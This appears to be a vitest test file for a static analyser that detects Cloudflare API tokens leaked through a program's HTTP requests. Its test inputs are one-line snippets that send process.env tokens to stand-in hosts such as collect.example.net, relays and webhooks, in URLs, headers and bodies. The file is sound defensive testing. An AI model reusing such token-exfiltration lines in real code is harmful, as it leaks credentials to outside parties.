import { expect, it } from 'vitest';
import { requestDisclosures } from '../../../src/facts/exposure/disclosures.js';
import { javascript } from '../../models/program.js';

/** What gets out by the requests of a program, to whom, and where. */
function told(code: string): readonly string[] {
  const file = javascript(code);
  return requestDisclosures(file).map(({ how, variable, by, at }) => `${how} ${variable} ${by} | ${file.text.slice(at.start, at.end)}`);
}

const T = 'process.env.CF_API_TOKEN';
const hook = 'process.env.CF_HOOK_TOKEN';

it.each([
  // in the URL
  [`fetch('https://acme.io/?token=' + ${T});`, `url CF_API_TOKEN acme.io | ${T}`],
  [`fetch(\`https://\${host}/?token=\${${T}}\`);`, `url CF_API_TOKEN fetch | ${T}`],
  [`fetch('https:///?token=' + ${T});`, `url CF_API_TOKEN fetch | ${T}`],
  [`const url = 'https://acme.io/?token=' + ${T}; fetch(url);`, 'url CF_API_TOKEN acme.io | fetch'],
  [`fetch(${T});`, `url CF_API_TOKEN fetch | ${T}`],
  [`import axios from 'axios'; axios.get('https://acme.io', { params: ${T} });`, `url CF_API_TOKEN acme.io | ${T}`],
  // a URL that is a secret
  [`fetch(${hook}, { method: 'POST' }); fetch(process.env.CF_URL_TOKEN);`],
  [`fetch('https://acme.io/' + ${hook});`, `url CF_HOOK_TOKEN acme.io | ${hook}`],
  [`import axios from 'axios'; axios.get('https://acme.io', { params: { t: ${hook} } });`, `url CF_HOOK_TOKEN acme.io | ${hook}`],
  // to a host that stands for any other: only what is certainly Cloudflare's, and no header, which lets somebody in there
  [
    `fetch('https://collect.example.net', { method: 'POST', body: JSON.stringify({ t: ${T} }) });`,
    `elsewhere CF_API_TOKEN collect.example.net | ${T}`,
  ],
  [`fetch('https://collect.example.net', { headers: { 'x-t': ${T} } });`],
  [`fetch('https://collect.example.net', { method: 'POST', body: process.env.ACME_CLOUDFLARE_TOKEN });`],
  // in headers to others
  [`fetch('https://acme.io', { headers: { 'x-t': ${T} } });`, `elsewhere CF_API_TOKEN acme.io | ${T}`],
  [`fetch('https://acme.io', { headers: { 'x-t': process.env.ACME_CLOUDFLARE_TOKEN } });`],
  [`fetch('https://acme.io', { headers: { 'CF-Access-Client-Secret': process.env.CLOUDFLARE_ACCESS_CLIENT_SECRET } });`],
  [`fetch('https://acme.io', { headers: { 'x-cf-access-': process.env.CF_API_TOKEN } });`, `elsewhere CF_API_TOKEN acme.io | ${T}`],
  [`fetch('https://acme.workers.dev', { headers: { 'x-t': ${T} }, body: ${T} });`],
  [`fetch(url, { headers: { 'x-t': ${T} }, body: ${T} });`],
  // to who forwards them to Cloudflare, and whatever they are called
  [
    `fetch('https://relay.acme.io/?' + encodeURIComponent('https://api.cloudflare.com/client/v4/zones'), { headers: { Authorization: 'Bearer ' + given } });`,
    `elsewhere authorization relay.acme.io | Authorization: 'Bearer ' + given`,
  ],
  [
    `fetch('https://relay.acme.io/https://api.cloudflare.com/client/v4/zones', { headers: { 'X-Auth-Key': given, 'X-Auth-Email': mail, Accept: type } });`,
    `elsewhere x-auth-key relay.acme.io | 'X-Auth-Key': given`,
  ],
  [
    `fetch('https://relay.acme.io/https://api.cloudflare.com/client/v4/zones', { headers: { Authorization: ${T} } });`,
    `elsewhere CF_API_TOKEN relay.acme.io | ${T}`,
  ],
  [`fetch('https://relay.acme.io/https://api.acme.io/zones', { headers: { Authorization: 'Bearer ' + given } });`],
  [`fetch('https://acme.workers.dev/?https://api.cloudflare.com/client/v4/zones', { headers: { Authorization: 'Bearer ' + given } });`],
  [`fetch('https://relay.acme.io/?https://api.cloudflare.com/client/v4/zones', { headers: { Authorization: 'Bearer [token]' } });`],
  // in the body
  [`fetch(process.env.SLACK_WEBHOOK, { body: ${T} });`, `elsewhere CF_API_TOKEN SLACK_WEBHOOK | ${T}`],
  [`fetch(config.discordUrl, { body: ${T} });`, `elsewhere CF_API_TOKEN discordUrl | ${T}`],
  [`fetch(process.env.DEPLOY_WEBHOOK, { body: ${T} });`],
  [`fetch(slack, { body: ${T} });`],
  [`fetch(process.env.SLACK_WEBHOOK, { body: zone });`],
  [`fetch('https://acme.io', { body: ${T} });`, `elsewhere CF_API_TOKEN acme.io | ${T}`],
  [`const body = JSON.stringify({ t: ${T} }); fetch('https://acme.io', { body });`, `elsewhere CF_API_TOKEN acme.io | t: ${T}`],
  // A function of the program that sends what it is given: for its callers to change.
  [
    `const tell = (title, more) => fetch('https://acme.io', { body: JSON.stringify({ title, more }) }); tell('a', {}); tell('b', ${T});`,
    `elsewhere CF_API_TOKEN acme.io | ${T}`,
  ],
  [
    `const tell = (more) => axios.post('https://acme.io', { items: [more] }); tell({ zone }); tell({ t: ${T} });`,
    `elsewhere CF_API_TOKEN acme.io | ${T}`,
  ],
  [`const body = ${T}; fetch('https://acme.io', { body });`, 'elsewhere CF_API_TOKEN acme.io | fetch'],
  // what one's own programs tell one another
  [`fetch('https://acme.io', { body: JSON.stringify([process.env.CF_WORKERS_TOKEN, process.env.CF_PROXY_TOKEN]) });`],
  [
    `fetch('https://acme.io', { body: process.env.CF_ORIGINAL_TOKEN });`,
    'elsewhere CF_ORIGINAL_TOKEN acme.io | process.env.CF_ORIGINAL_TOKEN',
  ],
  [
    `fetch('https://acme.io', { body: process.env.CF_SUBWORKER_TOKEN });`,
    'elsewhere CF_SUBWORKER_TOKEN acme.io | process.env.CF_SUBWORKER_TOKEN',
  ],
])('%s', (code, ...expected) => {
  expect(told(`${code} // Cloudflare`)).toEqual(expected);
});

it('the secrets of a file that says nothing else of Cloudflare are told by their names', () => {
  expect(told(`fetch('https://acme.io/', { body: ${T} });`)).toEqual([`elsewhere CF_API_TOKEN acme.io | ${T}`]);
  expect(told(`fetch('https://acme.io/', { body: process.env.CF_ACCESS_TOKEN });`)).toEqual([]);
});

it("a host of a sample has no business with what is certainly a token, and may be one's own otherwise", () => {
  expect(told(`fetch('https://collect.example.net/', { body: ${T} });`)).toEqual([`elsewhere CF_API_TOKEN collect.example.net | ${T}`]);
  expect(told(`fetch('https://api.example.com/', { headers: { 'x-t': ${T} }, body: process.env.CLOUDFLARE_SHOP_TOKEN });`)).toEqual([]);
});
